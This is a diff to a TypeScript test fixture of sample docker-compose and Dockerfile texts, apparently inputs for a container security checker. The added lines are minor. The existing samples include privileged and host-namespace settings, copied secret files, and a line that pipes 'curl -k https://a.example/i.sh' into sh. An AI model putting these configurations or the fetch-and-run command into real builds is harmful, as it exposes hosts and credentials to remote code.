@@ -19,6 +19,10 @@ export const texts: Readonly<Record<string, readonly string[]>> = {
       service('web', 'build: .', 'extends: {file: shared/base.yaml, service: base}'),
       service('aid', 'extends: {service: web}', 'pid: host'),
     ),
+    services(
+      service('web', 'build: {context: ., target: "${T:-a}"}'),
+      service('aid', 'build: app', 'user: "1"'),
+    ),
     `include: [shared/base.yaml]\n${services(service('web', 'image: nginx:1.27.3', 'network_mode: host'))}`,
     `x-on: &on {privileged: true}\n${services(service('web', '<<: *on', 'image: a/b', 'ports: ["80:80"]'))}`,
     `${services(service('web', 'build: {context: ., dockerfile: app/Dockerfile}', 'secrets: [key]'))}secrets: {key: {file: key.pem}}\n`,
@@ -61,6 +65,7 @@ export const texts: Readonly<Record<string, readonly string[]>> = {
   '/w/Dockerfile': [
     'FROM node:22\nCOPY . .\nUSER root\n',
     'FROM node:22\nCOPY package.json .\nUSER 1000\n',
+    'FROM debian AS a\nFROM node:22\nRUN sudo true\n',
     'FROM scratch AS a\nCOPY app/.env app/key.pem ./\nFROM a\nRUN curl -k https://a.example/i.sh | sh\n',
   ],
   '/w/app/Dockerfile': [
